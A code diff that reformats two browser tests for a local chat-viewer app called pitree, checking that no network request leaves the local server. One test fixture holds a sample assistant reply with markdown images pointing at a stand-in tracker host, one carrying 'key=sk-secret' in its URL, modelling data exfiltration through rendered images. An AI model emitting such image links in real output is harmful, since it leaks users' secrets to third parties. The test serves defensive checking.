@@ -46,7 +46,12 @@ def test_no_request_leaves_the_server(page, ui, sessions, record, server):
     assert record.websockets, "no websocket was opened"
     assert all(url.startswith(ws_origin) for url in record.websockets), record.websockets
     # Static files are served locally and every page loaded its scripts.
-    for name in ("/static/vendor/htmx-2.0.", "/static/vendor/htmx-ext-ws-2.0.", "/static/pitree/app.js", "/static/pitree/app.css"):
+    for name in (
+        "/static/vendor/htmx-2.0.",
+        "/static/vendor/htmx-ext-ws-2.0.",
+        "/static/pitree/app.js",
+        "/static/pitree/app.css",
+    ):
         assert any(url.startswith(server.url + name) for url in record.requests), name
     assert not record.errors, record.errors
 
@@ -57,12 +62,34 @@ def test_remote_images_in_messages_are_not_fetched(page, ui, sessions, record, s
     carries, to a third party. pitree promises to work without the network: no such fetch may happen."""
     seeded = sessions.write_lines(
         [
-            {"type": "message", "id": "aaaa0001", "parentId": None, "timestamp": "2026-03-02T09:00:01.000Z",
-             "message": {"role": "user", "content": "What is my API key?", "timestamp": 1}},
-            {"type": "message", "id": "aaaa0002", "parentId": "aaaa0001", "timestamp": "2026-03-02T09:00:02.000Z",
-             "message": {"role": "assistant", "provider": "x", "model": "y", "api": "z", "stopReason": "stop", "timestamp": 2,
-                         "content": [{"type": "text", "text": "Sure ![status](https://tracker.invalid/pixel.png?key=sk-secret) and "
-                                      "![b](//tracker.invalid/protocol-relative.png)"}]}},
+            {
+                "type": "message",
+                "id": "aaaa0001",
+                "parentId": None,
+                "timestamp": "2026-03-02T09:00:01.000Z",
+                "message": {"role": "user", "content": "What is my API key?", "timestamp": 1},
+            },
+            {
+                "type": "message",
+                "id": "aaaa0002",
+                "parentId": "aaaa0001",
+                "timestamp": "2026-03-02T09:00:02.000Z",
+                "message": {
+                    "role": "assistant",
+                    "provider": "x",
+                    "model": "y",
+                    "api": "z",
+                    "stopReason": "stop",
+                    "timestamp": 2,
+                    "content": [
+                        {
+                            "type": "text",
+                            "text": "Sure ![status](https://tracker.invalid/pixel.png?key=sk-secret) and "
+                            "![b](//tracker.invalid/protocol-relative.png)",
+                        }
+                    ],
+                },
+            },
         ]
     )
     ui.open(page, seeded.url)
